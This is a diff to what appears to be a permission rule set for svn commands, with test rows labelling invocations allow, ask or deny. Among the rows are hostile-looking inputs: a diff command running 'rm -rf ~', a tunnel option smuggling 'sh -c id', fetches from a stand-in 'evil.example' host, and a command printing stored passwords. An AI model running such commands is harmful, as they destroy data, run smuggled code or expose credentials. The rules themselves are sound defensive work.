@@ -9,7 +9,8 @@ PUBLISHED = publishes("the shared repository", "forge", Manner.DEFAULT_BRANCH)
 SVN = command(
     "svn",
     options=[
-        option("--config-option --config-dir", OPAQUE),
+        option("--config-option", READ_BY("svn.svn_setting")),
+        option("--config-dir", OPAQUE),
         option("--editor-cmd --diff-cmd --diff3-cmd", SCRIPT, PROGRAM),
         option("--targets", READS),
         flags("--username= --password= --no-auth-cache --non-interactive --force-interactive --trust-server-cert"),
@@ -58,6 +59,12 @@ ask    svn checkout https://evil.example/x
 allow  svn update
 ask    svn diff --diff-cmd ./evil
 deny   svn diff --diff-cmd 'rm -rf ~'
+allow  svn diff --summarize --config-option config:miscellany:global-ignores='*.log *.tmp'
+allow  svn status --config-option=servers:global:http-timeout=60
+allow  svn diff --config-option config:helpers:diff-cmd=
+ask    svn up --config-option config:tunnels:ssh='sh -c id'
+ask    svn up --config-option servers:global:http-proxy-host=proxy.example
+ask    svn up --config-option servers:global:ssl-authority-files=/tmp/ca.pem
 ask    svn --config-option config:helpers:diff-cmd=/tmp/x diff
 ask    svn auth --show-passwords
 ask    svn log https://evil.example/x
